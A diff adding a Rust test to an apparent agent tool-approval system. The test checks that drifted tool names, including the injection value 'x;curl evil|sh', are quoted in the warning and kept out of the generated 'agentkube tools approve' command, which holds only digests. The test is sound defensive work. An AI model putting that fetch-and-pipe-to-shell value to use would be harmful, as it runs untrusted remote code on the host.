@@ -146,6 +146,27 @@ async fn a_drift_is_told_with_the_command_that_approves_it() {
 }
 
 #[tokio::test]
+async fn a_name_that_is_no_plain_word_is_not_in_the_command() {
+    let pinned = Pinned::new("block").await;
+    pinned.sees(&[("create_issue", "1")]).await;
+    pinned
+        .sees(&[("--all", "1"), ("x;curl evil|sh", "2")])
+        .await;
+    let message = pinned.message();
+    let (told, command) = message.split_once("; to approve: ").unwrap();
+    assert!(
+        told.contains(r#""--all" (github new), "x;curl evil|sh" (github new)"#),
+        "{told}"
+    );
+    let digests = ["1", "2"].map(|text| ToolDigest::of(text).to_string());
+    let wanted = format!(
+        "agentkube tools approve team-a/github-tools {}",
+        digests.join(" ")
+    );
+    assert_eq!(command, wanted);
+}
+
+#[tokio::test]
 async fn the_annotation_approves_once() {
     let pinned = Pinned::new("block").await;
     pinned.sees(&[("create_issue", "1")]).await;
